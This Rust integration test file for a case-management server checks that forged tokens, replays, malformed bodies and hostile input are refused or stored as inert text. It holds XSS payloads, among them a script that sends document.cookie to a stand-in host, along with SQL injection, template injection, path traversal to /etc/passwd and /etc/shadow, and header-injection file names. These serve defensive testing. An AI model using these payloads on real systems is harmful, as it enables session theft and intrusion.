//! What nobody should send: refused with a reason and a way out and nothing changes, or kept as text that does nothing.

use std::fmt::Write as _;
use std::io::Cursor;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use serde_json::{Value, json};
use tandem_domain::{CaseId, Purpose, Role};
use tandem_policy::Colleague;
use tandem_server::asker::Asker;
use tandem_store::{LedgerFilter, WorkFilter, WorkKind};

use crate::office::{Office, done, office, shared_case};
use crate::support::{Answer, Desk, Place};

/// Largest item of evidence, bytes.
const ITEM: usize = 25 << 20;

/// Texts that run, if somebody lets them.
const SCRIPTS: [&str; 6] = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE facts; --",
];

/// What would tell that something was changed: how many facts a case has, what work there is and in which state, and every row
/// of the ledger.
async fn state(place: &Place, case: &str) -> (usize, Vec<String>, usize) {
    let facts = place
        .app
        .case(&CaseId(case.to_owned()))
        .await
        .unwrap()
        .facts
        .len();
    let mut work = Vec::new();
    for kind in [WorkKind::Case, WorkKind::Disclosure, WorkKind::Run] {
        let all = WorkFilter {
            limit: 1_000,
            ..WorkFilter::default()
        };
        for row in place.app.store.work(kind, &all).await.unwrap() {
            work.push(format!("{} {}", row.id, row.head.status));
        }
    }
    let all = LedgerFilter {
        limit: 100_000,
        ..LedgerFilter::default()
    };
    (facts, work, place.app.store.ledger(&all).await.unwrap().len())
}

/// A refusal says what it is, why, and what to do instead, and no browser makes anything of it.
fn refused(answer: &Answer, what: &str) {
    assert!(
        answer.status.is_client_error(),
        "{what}: {} {}",
        answer.status,
        answer.text
    );
    let error = &answer.json()["error"];
    for field in ["code", "message", "hint"] {
        let said = error[field].as_str().unwrap_or_default();
        assert!(!said.trim().is_empty(), "{what} has no {field}: {}", answer.text);
    }
    assert!(answer.text.len() < 6_000, "{what} is repeated at length");
    inert(answer);
}

/// An answer that a browser shows as data and nothing else.
fn inert(answer: &Answer) {
    let of = |name: &str| answer.headers[name].to_str().unwrap();
    assert_eq!(of("content-type"), "application/json");
    assert_eq!(of("x-content-type-options"), "nosniff");
    let policy = of("content-security-policy");
    assert!(policy.contains("default-src 'none'"), "{policy}");
}

async fn send(place: &Place, desk: &Desk<'_>, path: &str, csrf: &str, kind: &str, body: &[u8]) -> Answer {
    let request = Request::post(format!("/api/v1{path}"))
        .header(header::COOKIE, &desk.cookie)
        .header("x-tandem-csrf", csrf)
        .header(header::CONTENT_TYPE, kind);
    place.ask(request.body(Body::from(body.to_vec())).unwrap()).await
}

async fn csrf(place: &Place, desk: &Desk<'_>) -> String {
    let session = place.get("/api/v1/session", Some(&desk.cookie)).await.json();
    session["csrf"].as_str().unwrap().to_owned()
}

fn note(text: &str) -> Value {
    json!({ "note": { "write": { "visibility": "both", "text": text } } })
}

#[tokio::test]
async fn forged_marks_and_tokens_are_refused_and_change_nothing() {
    let place = Place::new().await;
    let office = office(&place).await;
    let case = shared_case(&office).await;
    let path = format!("/cases/{case}/commands");
    let (own, others) = (
        csrf(&place, &office.it).await,
        csrf(&place, &office.corporate).await,
    );
    let body = note("forged").to_string();
    let before = state(&place, &case).await;
    let flipped: String = own
        .chars()
        .rev()
        .map(|c| if c == '0' { '1' } else { '0' })
        .collect();
    for (mark, what) in [
        ("", "no mark"),
        (others.as_str(), "the mark of another session"),
        (flipped.as_str(), "a made-up mark"),
        (own.get(1..).unwrap(), "a part of the mark"),
    ] {
        let answer = send(
            &place,
            &office.it,
            &path,
            mark,
            "application/json",
            body.as_bytes(),
        )
        .await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{what}: {}", answer.text);
        refused(&answer, what);
    }
    // A session's cookie is of no use with one letter changed.
    let mut forged = office.it.cookie.clone();
    let last = forged.pop().unwrap();
    forged.push(if last == '0' { '1' } else { '0' });
    let request = Request::post(format!("/api/v1{path}"))
        .header(header::COOKIE, &forged)
        .header("x-tandem-csrf", &own)
        .header(header::CONTENT_TYPE, "application/json");
    let answer = place.ask(request.body(Body::from(body.clone())).unwrap()).await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{}", answer.text);
    refused(&answer, "a forged cookie");
    let token = place.token().await;
    for forged in [token.to_uppercase() + "0", "0".repeat(64), String::new()] {
        let answer = place.push(&forged, &[], b"{}\n".to_vec()).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{}", answer.text);
        refused(&answer, "a forged ingest token");
    }
    assert_eq!(state(&place, &case).await, before);
    assert_eq!(place.events().await, 20, "only what the office began with");
}

#[tokio::test]
async fn what_is_sent_again_counts_once() {
    let place = Place::new().await;
    let office = office(&place).await;
    let case = shared_case(&office).await;
    let asked = json!({
        "subject": office.subject, "fields": ["name"], "purpose": "investigation", "reason": "to talk", "hours": 24,
    });
    let asked = office
        .it
        .post(&format!("/cases/{case}/disclosures"), asked)
        .await
        .json();
    let answer = format!("/disclosures/{}/answer", asked["id"].as_str().unwrap());
    let yes = json!({ "approve": true, "reason": "proportionate" });
    let first = office.approver_it.post(&answer, yes.clone()).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.text);
    let investigate = json!({ "life": { "investigate": { "reason": "worth a look" } } });
    done(&office.it, &case, investigate.clone()).await;
    let propose = json!({ "decision": { "propose": { "wording": { "question": { "close": { "outcome": "unfounded" } }, "reason": "planned" } } } });
    let proposed = done(&office.it, &case, propose).await;
    let (id, proposal) = proposed["case"]["proposals"]
        .as_object()
        .unwrap()
        .iter()
        .next()
        .unwrap();
    let vote = json!({ "decision": { "vote": { "proposal": id, "hash": proposal["hash"], "answer": "for", "reason": "checked" } } });
    done(&office.it, &case, vote.clone()).await;

    let before = state(&place, &case).await;
    let commands = format!("/cases/{case}/commands");
    for (desk, path, body, what) in [
        (&office.approver_it, &answer, yes, "a second yes"),
        (&office.it, &commands, investigate, "a step that was taken"),
        (&office.it, &commands, vote, "a second vote"),
    ] {
        refused(&desk.post(path, body).await, what);
    }
    assert_eq!(state(&place, &case).await, before);
    // The same batch of a shipper is known by its key, or by what it says.
    let token = place.token().await;
    let batch = crate::support::line(5, 1, "anna.berg").into_bytes();
    for (headers, repeated) in [
        (&[("idempotency-key", "k1")][..], false),
        (&[("idempotency-key", "k1")][..], true),
    ] {
        let answer = place.push(&token, headers, batch.clone()).await;
        assert_eq!(answer.json()["repeated"], json!(repeated), "{}", answer.text);
    }
    assert_eq!(place.events().await, 21);
}

/// Closes a case as benign.
async fn closed(office: &Office<'_>) -> String {
    let case = shared_case(office).await;
    let close = json!({ "life": { "close_benign": { "reason": "a planned migration" } } });
    done(&office.it, &case, close).await;
    case
}

#[tokio::test]
async fn what_does_not_fit_the_state_is_refused_and_changes_nothing() {
    let place = Place::new().await;
    let office = office(&place).await;
    let admin = place.colleague("adam", Role::Administrator, None).await;
    let gone = json!({ "role": "it_analyst", "disabled": true });
    let gone = admin.put("/colleagues/ilse", gone).await;
    assert_eq!(gone.status, StatusCode::OK, "{}", gone.text);
    let (open, closed) = (shared_case(&office).await, closed(&office).await);
    let ask = json!({ "subject": office.subject, "fields": ["name"], "purpose": "investigation", "reason": "to talk", "hours": 24 });
    let begin = json!({ "playbook": "careless-upload", "inputs": { "self_reported": true } });
    let commands = |case: &str| format!("/cases/{case}/commands");
    let life = |word: &str| json!({ "life": { word: { "reason": "so" } } });
    let before = (state(&place, &open).await, state(&place, &closed).await);
    for (path, body) in [
        (commands(&open), life("close")),
        (commands(&open), life("reopen")),
        (commands(&closed), life("close_benign")),
        (commands(&closed), life("investigate")),
        (commands(&closed), note("too late")),
        (
            commands(&closed),
            json!({ "task": { "add": { "title": "too late" } } }),
        ),
        (
            commands(&closed),
            json!({ "people": { "add": { "account": "uma", "role": "observer", "reason": "curious" } } }),
        ),
        (format!("/cases/{closed}/disclosures"), ask),
        (format!("/cases/{closed}/runs"), begin),
        ("/disclosures/D-999999/end".to_owned(), json!({})),
        ("/disclosures/D-999999/identity".to_owned(), json!({})),
    ] {
        refused(&office.it.post(&path, body).await, &path);
    }
    let late = office
        .it
        .upload(
            &format!("/cases/{closed}/evidence?name=a&source=b"),
            "text/plain",
            b"late".to_vec(),
        )
        .await;
    refused(&late, "evidence for a closed case");
    let link = admin.post("/colleagues/ilse/link", json!({})).await;
    assert_eq!(link.status, StatusCode::CONFLICT, "{}", link.text);
    refused(&link, "a link for who may not sign in");
    let after = (state(&place, &open).await, state(&place, &closed).await);
    assert_eq!(after, before);
}

#[tokio::test]
async fn two_at_once_decide_on_the_same_state_and_nothing_is_lost() {
    let place = Place::new().await;
    let office = office(&place).await;
    let case = shared_case(&office).await;
    let path = format!("/cases/{case}/commands");
    let id = CaseId(case);
    let before = place.app.case(&id).await.unwrap().case.notes.len();
    let (one, other) = tokio::join!(
        office.it.post(&path, note("one")),
        office.corporate.post(&path, note("other"))
    );
    let mut kept = 0;
    for answer in [one, other] {
        if answer.status == StatusCode::OK {
            kept += 1;
        } else {
            assert_eq!(answer.status, StatusCode::CONFLICT, "{}", answer.text);
            refused(&answer, "who was slower");
        }
    }
    assert!(kept > 0);
    let after = place.app.case(&id).await.unwrap().case.notes.len();
    assert_eq!(after, before + kept, "who was told yes finds the note");
}

#[tokio::test]
async fn what_is_too_large_or_no_request_at_all_is_refused_in_words() {
    let place = Place::new().await;
    let office = office(&place).await;
    let case = shared_case(&office).await;
    let (it, mark) = (&office.it, csrf(&place, &office.it).await);
    let commands = format!("/cases/{case}/commands");
    let evidence = format!("/cases/{case}/evidence?name=a.bin&source=here");
    let asks = format!("/cases/{case}/disclosures");
    let ask = |hours: &str| {
        let subject = &office.subject;
        format!(
            "{{\"subject\":\"{subject}\",\"fields\":[\"name\"],\"purpose\":\"investigation\",\"reason\":\"x\",\"hours\":{hours}}}"
        )
        .into_bytes()
    };
    let before = state(&place, &case).await;
    let json_kind = "application/json";
    let deep = [vec![b'['; 100_000], vec![b']'; 100_000]].concat();
    let due = json!({ "task": { "add": { "title": "never", "due": i64::MAX } } }).to_string();
    for (path, kind, body, status) in [
        (&evidence, "text/plain", vec![b'x'; ITEM + 1], Some(413)),
        (&evidence, "text/plain", Vec::new(), None),
        (
            &commands,
            json_kind,
            note(&"x".repeat(3 << 20)).to_string().into_bytes(),
            Some(413),
        ),
        (
            &commands,
            json_kind,
            note(&"x".repeat(20_001)).to_string().into_bytes(),
            None,
        ),
        (
            &commands,
            json_kind,
            note("a\u{0}b").to_string().into_bytes(),
            None,
        ),
        (
            &commands,
            json_kind,
            note(" \n\t ").to_string().into_bytes(),
            None,
        ),
        (&commands, json_kind, due.into_bytes(), None),
        (&commands, json_kind, deep, Some(400)),
        (&commands, json_kind, b"{\"note\":\"\xff\"}".to_vec(), Some(400)),
        (
            &commands,
            json_kind,
            b"{\"note\":{\"write\":{\"visibility\":\"both\",\"text\":\"\\ud800\"}}}".to_vec(),
            Some(400),
        ),
        (&commands, json_kind, b"{".to_vec(), Some(400)),
        (&commands, json_kind, Vec::new(), Some(400)),
        (
            &commands,
            "text/plain",
            note("x").to_string().into_bytes(),
            Some(415),
        ),
        (&asks, json_kind, ask("4294967295"), None),
        (&asks, json_kind, ask("4294967296"), None),
        (&asks, json_kind, ask("-1"), None),
        (&asks, json_kind, ask("0"), None),
        (&asks, json_kind, ask("\"48\""), None),
    ] {
        let shown: String = String::from_utf8_lossy(&body).chars().take(80).collect();
        let answer = send(&place, it, path, &mark, kind, &body).await;
        let what = format!("{path} {shown}");
        refused(&answer, &what);
        if let Some(status) = status {
            assert_eq!(answer.status.as_u16(), status, "{what}: {}", answer.text);
        }
    }
    refused(&it.put(&format!("/cases/{case}"), json!({})).await, "a method");
    for path in [
        "/queue?limit=5",
        "/rejects/abc",
        "/subjects/..%2f..%2fetc%2fpasswd",
        "/no/such/address",
    ] {
        refused(&it.get(path).await, path);
    }
    for header in ["x", "C-1", "C-2026-0001; drop", "C-99999999999999999999-1"] {
        refused(&it.get_for(header, "/queue").await, header);
    }
    assert_eq!(state(&place, &case).await, before);
}

/// Names that mean more than a name to some system.
fn hostile_names() -> Vec<String> {
    let mut names: Vec<String> = [
        "../../etc/passwd",
        "..\\..\\windows\\system32\\cmd.exe",
        "C:\\a.txt",
        "/etc/shadow",
        "a\u{0}b.txt",
        "a\r\nset-cookie: x=1",
        "\u{202e}gnp.exe",
        "a\u{2066}b\u{2069}",
        "\u{200b}\u{feff}",
        "CON",
        "nul.txt",
        "aux.",
        "LPT1.log",
        ".",
        "..",
        "...",
        "",
        "   ",
        ".htaccess",
        "quote\".txt",
        "a;filename=b.html",
        "%2e%2e%2fetc",
        "名前.txt",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("x".repeat(5_000) + ".txt");
    names.extend(SCRIPTS.map(str::to_owned));
    names
}

/// A text as a query holds it.
fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02x}");
        out
    })
}

/// A name that is nothing but a name, whatever opens the file.
fn is_harmless(name: &str) -> bool {
    let odd = |c: char| {
        c.is_control()
            || matches!(c, '/' | '\\' | ':' | '"' | '<' | '>' | '|' | '?' | '*')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    let stem = name.split('.').next().unwrap_or_default().to_lowercase();
    let device = ["con", "prn", "aux", "nul", "com1", "lpt1"].contains(&stem.as_str());
    !name.is_empty()
        && name.chars().count() <= 255
        && !name.starts_with('.')
        && !name.ends_with(['.', ' '])
        && !name.chars().any(odd)
        && !device
}

#[tokio::test]
async fn a_hostile_file_name_becomes_a_harmless_one_everywhere() {
    let place = Place::new().await;
    let office = office(&place).await;
    let case = shared_case(&office).await;
    let names = hostile_names();
    for name in &names {
        let path = format!("/cases/{case}/evidence?source=here&name={}", encoded(name));
        let page = b"<script>alert(1)</script>".to_vec();
        let taken = office.it.upload(&path, "text/html", page).await;
        assert_eq!(taken.status, StatusCode::OK, "{name:?}: {}", taken.text);
        inert(&taken);
    }
    let seen = office.it.get(&format!("/cases/{case}")).await.json();
    let items = seen["case"]["evidence"].as_object().unwrap();
    assert_eq!(items.len(), names.len());
    for (id, item) in items {
        let name = item["name"].as_str().unwrap();
        assert!(is_harmless(name), "{name:?}");
        let shown = office.it.get(&format!("/cases/{case}/evidence/{id}")).await;
        assert_eq!(shown.status, StatusCode::OK, "{}", shown.text);
        let of = |header: &str| shown.headers[header].to_str().unwrap();
        // What could run is saved, not opened.
        assert_eq!(of("content-type"), "application/octet-stream");
        let how = of("content-disposition");
        assert!(how.starts_with("attachment; filename=\""), "{how}");
        assert_eq!(how.matches('"').count(), 2, "{how}");
    }
    let asker = Asker {
        colleague: Colleague::new("ines", Role::ItAnalyst, None, None).unwrap(),
        purpose: Purpose::Investigation,
        case: Some(CaseId(case.clone())),
    };
    let zip = place.app.export_case(&asker, "for counsel").await;
    let zip = zip.unwrap_or_else(|error| panic!("{error}"));
    let mut zip = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
    let mut files = 0;
    for at in 0..zip.len() {
        let file = zip.by_index(at).unwrap();
        let name = file.name().unwrap().into_owned();
        assert!(file.enclosed_name().is_some(), "{name}");
        if let Some(rest) = name.strip_prefix("evidence/") {
            assert!(is_harmless(rest), "{name}");
            files += 1;
        }
    }
    assert_eq!(files, names.len(), "none lies upon another");
}

#[tokio::test]
async fn script_in_any_text_is_kept_as_the_text_it_is() {
    let place = Place::new().await;
    let office = office(&place).await;
    for script in SCRIPTS {
        let opened = json!({ "kind": "misuse", "title": script, "reason": script });
        let opened = office.it.post("/cases", opened).await;
        assert_eq!(opened.status, StatusCode::OK, "{}", opened.text);
        inert(&opened);
        let opened = opened.json();
        assert_eq!(opened["summary"]["title"], json!(script));
        let case = opened["summary"]["id"].as_str().unwrap().to_owned();
        for command in [
            note(script),
            json!({ "task": { "add": { "title": script } } }),
            json!({ "link": { "link": { "link": { "subject": office.subject }, "reason": script } } }),
            json!({ "people": { "add": { "account": "carl", "role": "contributor", "reason": script } } }),
            json!({ "life": { "investigate": { "reason": script } } }),
            json!({ "decision": { "propose": { "wording": { "question": { "close": { "outcome": "unfounded" } }, "reason": script } } } }),
        ] {
            done(&office.it, &case, command).await;
        }
        let path = format!("/cases/{case}/evidence?name=a.txt&source={}", encoded(script));
        let taken = office.it.upload(&path, "text/plain", script.into()).await;
        assert_eq!(taken.status, StatusCode::OK, "{}", taken.text);
        let asked = json!({
            "subject": office.subject, "fields": ["name"], "purpose": "investigation", "reason": script, "hours": 24,
        });
        let asked = office.it.post(&format!("/cases/{case}/disclosures"), asked).await;
        assert_eq!(asked.status, StatusCode::OK, "{}", asked.text);
        assert_eq!(asked.json()["reason"], json!(script));
        for (desk, path) in [
            (&office.corporate, format!("/cases/{case}")),
            (&office.it, "/cases".to_owned()),
            (&office.approver_it, "/disclosures".to_owned()),
        ] {
            let shown = desk.get(&path).await;
            assert_eq!(shown.status, StatusCode::OK, "{}", shown.text);
            inert(&shown);
            assert!(holds(&shown.json(), script), "{path}: {script} in {}", shown.text);
        }
    }
    let check = office.auditor.get("/ledger/check").await.json();
    assert_eq!(check["holds"], json!(true), "{check}");
}

/// True if some text in a JSON value is exactly that one.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(found) => found == text,
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(fields) => fields.values().any(|item| holds(item, text)),
        _ => false,
    }
}
